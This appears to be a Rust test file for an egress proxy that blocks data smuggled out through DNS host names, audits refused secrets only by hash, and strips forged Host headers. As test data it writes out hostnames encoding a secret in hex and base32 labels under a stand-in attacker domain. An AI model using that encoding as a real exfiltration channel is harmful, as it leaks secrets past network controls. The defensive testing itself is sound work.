//! Host names as a channel out, end to end: pipelock on 127.0.0.1:0 with a resolver that
//! records every lookup. A name whose labels below an allowed wildcard carry encoded
//! data is refused (`host-label-encoded`) before any lookup, on CONNECT and on a plain
//! request; a name on an exact entry is not judged; the audit holds no encoded label and
//! no secret DLP refused, only its keyed hash.

use std::net::IpAddr;
use std::sync::{Arc, Mutex};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

use super::audit::MemoryAudit;
use super::config::{Config, DlpConfig};
use super::server::{Proxy, serve};
use super::ssrf::{BoxFuture, Resolve, ResolveError};
use super::tests::{anthropic_key, upstream};

/// A 16-byte secret, hex-encoded into one label.
const HEX_LABEL: &str = "6b6579206f6620313620627974657321";

/// Every name resolves to 127.0.0.1; each lookup is recorded.
#[derive(Default)]
struct Recording(Mutex<Vec<String>>);

impl Resolve for Recording {
    fn lookup<'a>(&'a self, host: &'a str) -> BoxFuture<'a, Result<Vec<IpAddr>, ResolveError>> {
        self.0.lock().expect("lookups").push(host.to_string());
        Box::pin(async { Ok(vec![IpAddr::from([127, 0, 0, 1])]) })
    }
}

struct Harness {
    proxy: std::net::SocketAddr,
    port: u16,
    lookups: Arc<Recording>,
    audit: Arc<MemoryAudit>,
}

async fn harness() -> Harness {
    let (up, _) = upstream().await;
    let cfg = Config {
        allow: vec![
            "*.attacker.test".into(),
            format!("{HEX_LABEL}.exact.test"),
            "allowed.test".into(),
        ],
        allow_cidrs: vec!["127.0.0.1/32".into()],
        dlp: DlpConfig {
            enabled: true,
            ..Default::default()
        },
        ..Default::default()
    };
    let lookups = Arc::new(Recording::default());
    let audit = Arc::new(MemoryAudit::default());
    let proxy = Proxy::from_config(&cfg, lookups.clone(), audit.clone()).expect("proxy");
    let l = TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let addr = l.local_addr().expect("addr");
    tokio::spawn(serve(l, Arc::new(proxy)));
    Harness {
        proxy: addr,
        port: up.port(),
        lookups,
        audit,
    }
}

async fn raw(proxy: std::net::SocketAddr, req: String) -> String {
    let mut s = TcpStream::connect(proxy).await.expect("connect");
    s.write_all(req.as_bytes()).await.expect("write");
    let mut out = vec![0u8; 4096];
    let n = tokio::time::timeout(std::time::Duration::from_secs(5), s.read(&mut out))
        .await
        .expect("an answer")
        .expect("read");
    String::from_utf8_lossy(&out[..n]).into_owned()
}

fn connect(host: &str, port: u16) -> String {
    format!("CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n")
}

fn get(host: &str, port: u16, path: &str) -> String {
    format!(
        "GET http://{host}:{port}{path} HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n"
    )
}

#[tokio::test]
async fn encoded_labels_under_a_wildcard_are_refused_before_any_lookup() {
    let h = harness().await;
    let names = [
        format!("{HEX_LABEL}.attacker.test"),
        "mfrggzdfmztwq2lknnwg23tpobyxe43u.attacker.test".to_string(),
        "a.b.c.d.e.attacker.test".to_string(),
        "6b657920.6f662031.36206279.74657321.attacker.test".to_string(),
    ];
    for name in &names {
        for req in [connect(name, h.port), get(name, h.port, "/")] {
            let r = raw(h.proxy, req).await;
            assert!(r.starts_with("HTTP/1.1 403"), "{name}: {r}");
            assert!(r.contains("encoded data"), "{r}");
            let e = h.audit.events().last().cloned().expect("an event");
            assert_eq!((e.decision, e.reason), ("deny", "host-label-encoded"));
        }
    }
    assert!(
        h.lookups.0.lock().expect("lookups").is_empty(),
        "no name was looked up"
    );
    let logged = serde_json::to_string(&h.audit.events()).expect("json");
    for secret in [&HEX_LABEL[..12], "mfrggzdfmztwq2lk", "6b657920"] {
        assert!(!logged.contains(secret), "{logged}");
    }
    assert!(logged.contains("<redacted:"), "{logged}");
}

#[tokio::test]
async fn real_names_under_a_wildcard_and_exact_names_pass() {
    let h = harness().await;
    for name in [
        "objects.attacker.test".to_string(),
        "d2908q01vomqb2.attacker.test".to_string(),
        "my-app-e5kq9x2mz-team.attacker.test".to_string(),
        // Named exactly by the operator: nothing in it can vary, it is not judged.
        format!("{HEX_LABEL}.exact.test"),
    ] {
        let r = raw(h.proxy, get(&name, h.port, "/")).await;
        assert!(r.starts_with("HTTP/1.1 200"), "{name}: {r}");
    }
    assert_eq!(h.lookups.0.lock().expect("lookups").len(), 4);
}

#[tokio::test]
async fn a_refused_secret_is_audited_by_its_hash_only() {
    let h = harness().await;
    let key = anthropic_key();
    let r = raw(h.proxy, get("allowed.test", h.port, &format!("/u/{key}"))).await;
    assert!(r.starts_with("HTTP/1.1 403"), "{r}");
    let e = h.audit.events().last().cloned().expect("an event");
    assert_eq!(e.reason, "dlp");
    let hash = e.hash.expect("a hash");
    assert_eq!(hash.len(), 8);
    let logged = serde_json::to_string(&h.audit.events()).expect("json");
    assert!(!logged.contains(&key[14..40]), "{logged}");
    // The same secret again: the same hash, so the two lines can be correlated.
    raw(h.proxy, get("allowed.test", h.port, &format!("/v/{key}"))).await;
    let again = h.audit.events().last().cloned().expect("an event");
    assert_eq!(again.hash.as_deref(), Some(hash.as_str()));
}

#[tokio::test]
async fn a_host_header_naming_another_host_is_not_forwarded() {
    let (up, seen) = upstream().await;
    let cfg = Config {
        allow: vec!["allowed.test".into()],
        allow_cidrs: vec!["127.0.0.1/32".into()],
        ..Default::default()
    };
    let proxy = Proxy::from_config(
        &cfg,
        Arc::new(Recording::default()),
        Arc::new(MemoryAudit::default()),
    )
    .expect("proxy");
    let l = TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let addr = l.local_addr().expect("addr");
    tokio::spawn(serve(l, Arc::new(proxy)));
    let req = format!(
        "GET http://allowed.test:{}/ HTTP/1.1\r\nHost: {HEX_LABEL}.attacker.test\r\nConnection: close\r\n\r\n",
        up.port()
    );
    let r = raw(addr, req).await;
    assert!(r.starts_with("HTTP/1.1 200"), "{r}");
    let heads = seen.lock().expect("seen").heads.join("\n");
    assert!(!heads.contains(HEX_LABEL), "{heads}");
    assert!(heads.contains("allowed.test"), "{heads}");
}
